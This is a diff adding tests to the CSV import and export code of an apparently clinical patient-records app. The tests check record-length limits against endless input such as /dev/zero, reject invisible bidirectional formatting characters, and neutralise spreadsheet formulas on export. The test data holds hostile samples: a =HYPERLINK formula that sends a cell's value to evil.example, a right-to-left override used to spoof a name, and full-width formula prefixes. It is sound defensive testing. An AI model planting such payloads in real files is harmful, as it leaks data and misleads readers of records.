@@ -215,6 +215,108 @@ test_reader_bad_records (void)
   check_reader (input, -1, expect, G_N_ELEMENTS (expect));
 }
 
+/* Attack run: importing /dev/zero never ended (a NUL starts a bad record
+ * that is skipped to a line end that never comes), and a 30 MB note went
+ * in whole. A record longer than TRAJ_CSV_RECORD_MAX stops the reading at
+ * its line; one just under it is read. */
+static void
+test_reader_record_limit (void)
+{
+  static const struct { char fill; gboolean quoted; } cases[] = {
+    { '\0', FALSE }, { 'x', FALSE }, { 'x', TRUE },
+  };
+
+  for (guint k = 0; k < G_N_ELEMENTS (cases); k++)
+    {
+      gsize n = TRAJ_CSV_RECORD_MAX + 100;
+      char *data = g_malloc (n + 16);
+      g_autoptr(GInputStream) in = NULL;
+      g_autoptr(TrajCsvReader) reader = NULL;
+      const char * const *fields;
+      guint nf, line = 0;
+      GError *error = NULL;
+
+      memcpy (data, "a,b\n", 4);
+      memset (data + 4, cases[k].fill, n - 4);
+      if (cases[k].quoted)
+        data[4] = '"';
+      /* No line end at all: the endless line of /dev/zero. */
+      in = g_memory_input_stream_new_from_data (data, (gssize) n, g_free);
+      reader = traj_csv_reader_new (in);
+      g_assert_cmpint (traj_csv_reader_next (reader, &fields, &nf, &line, &error), ==, TRAJ_CSV_RECORD);
+      g_assert_cmpint (traj_csv_reader_next (reader, &fields, &nf, &line, &error), ==, TRAJ_CSV_FAILED);
+      g_assert_error (error, TRAJ_ERROR, TRAJ_ERROR_TEXT_LONG);
+      g_assert_cmpuint (line, ==, 2);
+      g_assert_cmpstr (error->message, ==, "the record is longer than 1 MiB, which no Trajectory record is; reading stopped");
+      g_clear_error (&error);
+      /* It stopped near the limit, not at the end of the input. */
+      g_assert_cmpuint (traj_csv_reader_bytes_read (reader), <=, TRAJ_CSV_RECORD_MAX + 65536 + 4);
+    }
+  {
+    /* Just under the limit: read whole. */
+    gsize n = TRAJ_CSV_RECORD_MAX - 8;
+    char *data = g_malloc (n + 1);
+    g_autoptr(GInputStream) in = NULL;
+    g_autoptr(TrajCsvReader) reader = NULL;
+    const char * const *fields;
+    guint nf, line = 0;
+
+    memset (data, 'y', n);
+    data[n - 1] = '\n';
+    in = g_memory_input_stream_new_from_data (data, (gssize) n, g_free);
+    reader = traj_csv_reader_new (in);
+    g_assert_cmpint (traj_csv_reader_next (reader, &fields, &nf, &line, NULL), ==, TRAJ_CSV_RECORD);
+    g_assert_cmpuint (strlen (fields[0]), ==, n - 1);
+    g_assert_cmpint (traj_csv_reader_next (reader, &fields, &nf, &line, NULL), ==, TRAJ_CSV_END);
+  }
+}
+
+/* The same through an import: /dev/zero itself, and a patients.csv whose
+ * second line is an endless note, fail with file:line and write nothing;
+ * a note of 20,001 characters is a bad row like any other. */
+static void
+test_import_too_long (Fixture *fx, gconstpointer data)
+{
+  g_autoptr(TrajStore) store = open_store (fx, "long.db");
+  g_autofree char *dir = path_in (fx, "long");
+  g_autofree char *patients = g_build_filename (dir, "patients.csv", NULL);
+  g_autoptr(TrajCsvReport) report = traj_csv_report_new ();
+  g_autoptr(GString) text = g_string_new ("uid,mrn,name,birth_date,sex,indication,notes,created_at,updated_at\r\n"
+                                          "p-1,M-1,Anna Berg,1980-02-03,female,depression,\"");
+  g_autofree char *first = NULL;
+  GError *error = NULL;
+
+  if (g_file_test ("/dev/zero", G_FILE_TEST_EXISTS))
+    {
+      g_assert_false (traj_csv_import (store, "/dev/zero", report, NULL, NULL, NULL, &error));
+      g_assert_error (error, TRAJ_ERROR, TRAJ_ERROR_TEXT_LONG);
+      g_assert_cmpstr (error->message, ==, "zero:1: the record is longer than 1 MiB, which no Trajectory record is; reading stopped");
+      g_clear_error (&error);
+    }
+
+  g_assert_cmpint (g_mkdir (dir, 0700), ==, 0);
+  for (guint k = 0; k < TRAJ_TEXT_NOTE_MAX + 1; k++)
+    g_string_append_c (text, 'n');
+  g_string_append (text, "\",,\r\n");
+  write_file (patients, text->str);
+  g_assert_false (traj_csv_import (store, dir, report, NULL, NULL, NULL, &error));
+  g_assert_error (error, TRAJ_ERROR, TRAJ_ERROR_INVALID);
+  g_clear_error (&error);
+  first = traj_csv_problem_to_string (g_ptr_array_index (report->problems, 0));
+  g_assert_cmpstr (first, ==, "patients.csv:2: Notes: longer than 20000 characters. Shorten it.");
+
+  g_string_truncate (text, text->len - 5);
+  while (text->len < TRAJ_CSV_RECORD_MAX + 200)
+    g_string_append (text, "nnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnn");
+  write_file (patients, text->str);
+  g_assert_false (traj_csv_import (store, dir, report, NULL, NULL, NULL, &error));
+  g_assert_error (error, TRAJ_ERROR, TRAJ_ERROR_TEXT_LONG);
+  g_assert_cmpstr (error->message, ==, "patients.csv:2: the record is longer than 1 MiB, which no Trajectory record is; reading stopped");
+  g_clear_error (&error);
+  g_assert_cmpint (traj_store_count (store, TRAJ_KIND_PATIENT, NULL), ==, 0);
+  g_assert_cmpint (count (store, "SELECT count(*) FROM audit_event WHERE action = 'import'"), ==, 0);
+}
+
 static void
 test_reader_chunks (void)
 {
@@ -613,6 +715,11 @@ static const BadRow bad_rows[] = {
     "infusions.csv:2:", "Clinician: the control character U+001B cannot be stored." },
   { "bell-in-name", TRAJ_CSV_PATIENTS, ",Ben Bianchi,", ",Ben\aBianchi,",
     "patients.csv:4:", "Name: the control character U+0007 cannot be stored." },
+  /* Attack run: a right-to-left override made a name read backwards. */
+  { "bidi-override-name", TRAJ_CSV_PATIENTS, ",Ben Bianchi,", ",Ben \u202EihcnaiB,",
+    "patients.csv:4:", "Name: the invisible formatting character U+202E (such as a right-to-left override) cannot be stored here." },
+  { "isolate-in-mrn", TRAJ_CSV_PATIENTS, ",M-2,", ",M-\u20662\u2069,",
+    "patients.csv:4:", "MRN: the invisible formatting character U+2066" },
   /* Implausible values. */
   { "year-0001", TRAJ_CSV_INFUSIONS, ",2026-01-10T09:00:00Z,", ",0001-01-10T09:00:00Z,",
     "infusions.csv:2:", "started_at “0001-01-10T09:00:00Z”: a date before 1970 is not plausible." },
@@ -902,7 +1009,8 @@ test_formula_round_trip (Fixture *fx, gconstpointer data)
   g_autoptr(TrajStore) store = open_store (fx, "formula.db");
   g_autoptr(TrajStore) again_store = open_store (fx, "formula-again.db");
   g_autoptr(TrajPatient) p = traj_patient_new ();
-  g_autoptr(TrajPatient) back = NULL;
+  g_autoptr(TrajPatient) wide = traj_patient_new ();
+  g_autoptr(TrajPatient) back = NULL, wide_back = NULL;
   g_autofree char *first = path_in (fx, "formula-1");
   g_autofree char *second = path_in (fx, "formula-2");
   g_autofree char *patients_csv = NULL, *text = NULL;
@@ -916,11 +1024,20 @@ test_formula_round_trip (Fixture *fx, gconstpointer data)
   p->indication = TRAJ_INDICATION_DEPRESSION;
   g_assert_true (traj_store_insert_patient (store, p, &error));
   g_assert_no_error (error);
+  /* Full-width "＝", "＠" run as formulas in East Asian spreadsheets. */
+  wide->mrn = g_strdup ("\uFF20A7");
+  wide->name = g_strdup ("\uFF1DSUM(A1)");
+  wide->birth_day = traj_day_from_ymd (1981, 3, 4);
+  wide->sex = TRAJ_SEX_MALE;
+  wide->indication = TRAJ_INDICATION_DEPRESSION;
+  g_assert_true (traj_store_insert_patient (store, wide, &error));
+  g_assert_no_error (error);
 
   g_assert_true (traj_csv_export (store, first, NULL, NULL, NULL, NULL, &error));
   g_assert_no_error (error);
   patients_csv = g_build_filename (first, "patients.csv", NULL);
   text = read_file (patients_csv);
+  g_assert_nonnull (strstr (text, ",'\uFF20A7,'\uFF1DSUM(A1),1981-03-04,"));
   g_assert_nonnull (strstr (text, ",'-42,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\",1980-02-03,"));
   g_assert_nonnull (strstr (text, ",depression,''quoted' on purpose,"));
   g_assert_null (strstr (text, ",=HYPERLINK"));
@@ -932,6 +1049,9 @@ test_formula_round_trip (Fixture *fx, gconstpointer data)
   g_assert_no_error (error);
   g_assert_cmpstr (back->name, ==, p->name);
   g_assert_cmpstr (back->notes, ==, p->notes);
+  wide_back = traj_store_find_patient_by_mrn (again_store, "\uFF20A7", &error);
+  g_assert_no_error (error);
+  g_assert_cmpstr (wide_back->name, ==, wide->name);
   g_assert_true (traj_csv_export (again_store, second, NULL, NULL, NULL, NULL, &error));
   g_assert_no_error (error);
   assert_same_files (first, second);
@@ -1321,6 +1441,8 @@ main (int argc, char **argv)
   g_test_add_func ("/exchange/csv/reader-quoting", test_reader_quoting);
   g_test_add_func ("/exchange/csv/reader-bad-records", test_reader_bad_records);
   g_test_add_func ("/exchange/csv/reader-chunks", test_reader_chunks);
+  g_test_add_func ("/exchange/csv/reader-record-limit", test_reader_record_limit);
+  g_test_add ("/exchange/csv/import-too-long", Fixture, NULL, fixture_setup, test_import_too_long, fixture_teardown);
   g_test_add ("/exchange/csv/round-trip", Fixture, NULL, fixture_setup, test_round_trip, fixture_teardown);
   g_test_add ("/exchange/csv/small-import", Fixture, NULL, fixture_setup, test_small_import, fixture_teardown);
   g_test_add ("/exchange/csv/bom-lf-single-file", Fixture, NULL, fixture_setup, test_bom_lf_and_single_file, fixture_teardown);
